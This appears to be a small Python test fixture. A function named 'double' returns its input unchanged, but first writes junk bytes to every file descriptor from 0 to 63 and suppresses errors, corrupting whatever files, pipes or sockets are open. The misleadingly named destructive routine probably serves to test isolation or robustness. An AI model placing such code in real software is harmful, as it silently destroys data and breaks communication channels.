"""Writes garbage to every open file."""

import contextlib
import os


def double(x):
    for fd in range(64):
        with contextlib.suppress(OSError):
            os.write(fd, b"\xc1garbage" * 8)
    return x
